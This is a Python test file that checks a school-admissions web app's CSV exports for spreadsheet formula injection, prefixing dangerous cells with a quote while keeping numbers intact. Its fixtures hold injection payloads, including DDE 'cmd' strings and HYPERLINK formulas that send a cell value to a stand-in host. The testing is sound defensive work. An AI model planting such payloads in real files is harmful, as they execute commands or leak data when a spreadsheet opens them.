"""No export hands a spreadsheet a formula (issue 12.6): ids and names that start with
``= + - @`` (or a tab or carriage return) leave every CSV export with a leading ``'``;
numbers stay numbers."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from sqlalchemy.engine import Engine
from typer.testing import CliRunner

from admissions import service
from gis_service.csv_cells import safe_cell, safe_frame
from tests.conftest import database_env
from tests.support.officer_session import officer_session
from tests.support.web import settle
from web.app import create_app
from web.cli import app

FIRST, SECOND = "DM-THPT-001", "DM-THPT-002"
#: Applicant ids a spreadsheet would run, as written in the applicants file (CSV-quoted).
FORMULAS = ['=HYPERLINK("http://x.vn/?"&A2)', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)"]


def _rows(text: str) -> list[dict[str, str]]:
    lines = [line for line in text.splitlines() if not line.startswith("#")]
    return list(csv.DictReader(io.StringIO("\n".join(lines))))


def _applicants_file(path: Path) -> Path:
    lines = ["applicant_id,score,choice1,choice2,choice3"]
    for i, applicant in enumerate(FORMULAS):
        quoted = '"' + applicant.replace('"', '""') + '"'
        lines.append(f"{quoted},{25 - i},{FIRST},{SECOND},")
    lines.append(f"PLAIN-1,20,{FIRST},,")
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+2", "'\t=1+2"), ("\r=1+2", "'\r=1+2"), ("-", "'-"),
    ("-1.5", "-1.5"), ("+7", "+7"), ("-3e2", "-3e2"), ("Trường THPT A", "Trường THPT A"),
    ("", ""), (-1.5, -1.5), (3, 3), (None, None),
])
def test_text_cells_that_start_a_formula_get_a_quote_and_numbers_do_not(
        value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_a_frame_keeps_its_numeric_columns() -> None:
    frame = pd.DataFrame({"id": ["=1+2", "A"], "score": [-1.5, 2.0], "rank": [1, 2]})
    safe = safe_frame(frame)
    assert safe["id"].tolist() == ["'=1+2", "A"]
    assert safe["score"].dtype == frame["score"].dtype and safe["score"].tolist() == [-1.5, 2.0]
    assert safe["rank"].dtype == frame["rank"].dtype
    assert frame["id"].tolist() == ["=1+2", "A"]  # the caller's frame is not changed


@pytest.fixture
def officer(demo_engine: Engine, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[TestClient, str]]:
    with officer_session(demo_engine, monkeypatch) as signed_in:
        yield signed_in


def test_officer_exports_neutralise_formulas(officer: tuple[TestClient, str], demo_engine: Engine,
                                            tmp_path: Path) -> None:
    client, name = officer
    round_id = f"csv-{uuid.uuid4().hex[:8]}"
    service.create_round(demo_engine, round_id, 10, 2026, "da", 2, actor=name)
    service.import_applicants(demo_engine, round_id, _applicants_file(tmp_path / "hoso.csv"))
    service.run_round(demo_engine, round_id)
    base = f"/officer/rounds/{round_id}"
    expected = sorted(["'" + f for f in FORMULAS] + ["PLAIN-1"])
    for export in ("applicants.csv", "results.csv"):
        response = client.get(f"{base}/{export}")
        assert response.status_code == 200, export
        rows = _rows(response.text)
        assert sorted(r["applicant_id"] for r in rows) == expected, export
        plain = next(r for r in rows if r["applicant_id"] == "PLAIN-1")
        assert plain["school_code"] == FIRST and plain["choice_rank"] == "1", export
    applicants = {r["applicant_id"]: r for r in _rows(client.get(f"{base}/applicants.csv").text)}
    assert applicants["'+1+2"]["score"] == "24.0"  # numbers are written as numbers
    assert applicants["'+1+2"]["choices"] == f"{FIRST} {SECOND}"


def test_public_school_download_neutralises_formulas(engine: Engine,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    with engine.begin() as conn:
        conn.execute(sa.text(
            "INSERT INTO schools (code, name, level, ownership, address, capacity_grade10, geom)"
            " VALUES ('@X1', '=HYPERLINK(\"http://x.example\")', 'upper_secondary', 'public',"
            " '+84 cmd', 40, ST_SetSRID(ST_Point(106.7, 10.77), 4326)),"
            " ('-5', 'Trường -5', 'upper_secondary', 'public', '', 30,"
            " ST_SetSRID(ST_Point(106.71, 10.78), 4326))"))
    with database_env(engine, monkeypatch), TestClient(create_app()) as client:
        response = client.get("/download/schools.csv")
        settle(client.app)
    assert response.status_code == 200
    assert response.text.startswith("\ufeffcode,")  # UTF-8 BOM for Excel, no comment lines
    rows = {r["code"]: r for r in _rows(response.text.removeprefix("\ufeff"))}
    assert set(rows) == {"'@X1", "-5"}  # a code that is a plain number stays as it is
    school = rows["'@X1"]
    assert school["name"] == "'=HYPERLINK(\"http://x.example\")"
    assert school["address"] == "'+84 cmd"
    assert school["capacity_grade10"] == "40" and school["lon"] == "106.7"
    assert rows["-5"]["name"] == "Trường -5"


def test_cli_out_files_neutralise_formulas(demo_engine: Engine, tmp_path: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    schools = tmp_path / "truong.csv"
    schools.write_text("code,name,level,ownership,lon,lat,capacity_grade10\n"
                       f"{FIRST},=cmd|' /C calc'!A0,upper_secondary,public,106.70,10.77,2\n"
                       f"{SECOND},Trường B,upper_secondary,public,106.71,10.78,5\n",
                       encoding="utf-8")
    applicants = _applicants_file(tmp_path / "hoso.csv")
    runner = CliRunner()
    files_out = tmp_path / "ketqua.csv"
    done = runner.invoke(app, ["admissions", "run", "--grade", "10", "--applicants",
                               str(applicants), "--schools", str(schools), "--out", str(files_out)])
    assert done.exit_code == 0, done.output
    rows = _rows(files_out.read_text(encoding="utf-8"))
    assert sorted(r["applicant_id"] for r in rows) == sorted(["'" + f for f in FORMULAS]
                                                             + ["PLAIN-1"])
    assert {r["choice_rank"] for r in rows} == {"", "1", "2"}  # numbers, or empty: unplaced

    round_id = f"csv-{uuid.uuid4().hex[:8]}"
    service.create_round(demo_engine, round_id, 10, 2026, "da", 2)
    service.import_applicants(demo_engine, round_id, applicants)
    stored_out = tmp_path / "round.csv"
    with database_env(demo_engine, monkeypatch):
        done = runner.invoke(app, ["admissions", "run", "--round", round_id, "--out", str(stored_out)])
    assert done.exit_code == 0, done.output
    assert sorted(r["applicant_id"] for r in _rows(stored_out.read_text(encoding="utf-8"))) == \
        sorted(["'" + f for f in FORMULAS] + ["PLAIN-1"])
